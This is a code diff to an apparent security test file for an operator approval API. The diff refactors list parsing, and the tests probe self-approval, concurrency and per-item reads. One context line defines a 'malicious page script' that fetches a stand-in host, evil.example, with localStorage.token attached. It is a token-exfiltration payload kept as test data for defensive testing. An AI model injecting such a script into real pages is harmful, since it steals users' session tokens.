@@ -4,6 +4,7 @@ import type { Attempt, Role } from '../attempt.ts';
 import { byTwo, type OperatorUser } from '../operator-user.ts';
 import { ADDRESSES, operatorId, type Scene } from '../scene.ts';
 import type { Reply } from '../wire.ts';
+import { listOf } from '../../support/json.ts';
 
 /** A malicious page script. */
 const SCRIPT = 'fetch("//evil.example?" + localStorage.token)';
@@ -16,14 +17,11 @@ const AT_ONCE = 8;
 async function alone(operator: OperatorUser, method: string, path: string, body: object): Promise<Reply[]> {
   const asked = await operator.ask(method, path, body);
   const again = await byTwo([operator, operator], method, path, body);
-  const { list } =
-    ((await operator.ask('GET', '/proposals?status=1&limit=100')).body as {
-      readonly list?: readonly { readonly id: number }[];
-    } | null) ?? {};
+  const { body: open } = await operator.ask('GET', '/proposals?status=1&limit=100');
   const approvals = await Promise.all(
-    (list ?? [])
+    listOf(open?.['list'])
       .slice(0, AT_ONCE)
-      .map(({ id }) => operator.ask('POST', `/proposals/${id}/approve`, { remark: 'mine' })),
+      .map(({ id }) => operator.ask('POST', `/proposals/${String(id)}/approve`, { remark: 'mine' })),
   );
   return [asked, again, ...approvals];
 }
@@ -49,10 +47,7 @@ const SETTINGS: Readonly<Record<(typeof TWO_OPERATOR_SETTINGS)[number], unknown>
 };
 
 const first = async ({ anna }: Scene, resource: string): Promise<string> =>
-  String(
-    ((await anna.obtain('GET', `/${resource}?limit=1`)) as { readonly list: readonly { readonly id: number }[] })
-      .list[0]?.id,
-  );
+  String(listOf((await anna.obtain('GET', `/${resource}?limit=1`))['list'])[0]?.['id']);
 
 const attempts: readonly Attempt[] = [
   {
@@ -185,9 +180,9 @@ const attempts: readonly Attempt[] = [
       const replies = await Promise.all(gets.map(({ path }) => anna.ask('GET', path)));
       const single = await Promise.all(
         gets.flatMap(({ path }, at) => {
-          const { list } = (replies[at]?.body ?? {}) as { readonly list?: readonly { readonly id?: number }[] };
+          const list = listOf(replies[at]?.body?.['list']);
           const reads = operatorCalls.some((call) => call.method === 'GET' && call.path === `${path}/{id}`);
-          return reads ? (list ?? []).slice(0, 5).map(({ id }) => anna.ask('GET', `${path}/${id}`)) : [];
+          return reads ? list.slice(0, 5).map(({ id }) => anna.ask('GET', `${path}/${String(id)}`)) : [];
         }),
       );
       return [...replies, ...single];
